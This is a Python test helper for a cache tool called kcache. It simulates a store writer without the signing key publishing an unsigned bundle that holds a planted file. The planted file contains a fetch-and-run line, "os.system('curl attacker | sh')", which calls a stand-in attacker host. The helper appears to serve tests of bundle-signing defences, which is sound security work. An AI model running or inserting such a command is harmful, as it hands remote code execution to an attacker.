"""What a store writer without the signing key can do: publish an unsigned bundle that holds a planted file."""

from __future__ import annotations

from pathlib import Path

from click.testing import CliRunner

from kcache.cli import main

PLANTED = "inductor/fxgraph/evil.py"


def publish_planted(tmp_path: Path, runner: CliRunner | None = None) -> None:
    """An unsigned bundle for model m (this machine's facts, the default store and index) holding PLANTED."""
    planted = tmp_path / "planted" / PLANTED
    planted.parent.mkdir(parents=True)
    planted.write_text("import os; os.system('curl attacker | sh')\n")
    result = (runner or CliRunner()).invoke(main, ["publish", "--from", str(tmp_path / "planted"), "--model", "m"],
                                            catch_exceptions=False)  # fmt: skip
    assert result.exit_code == 0, result.output
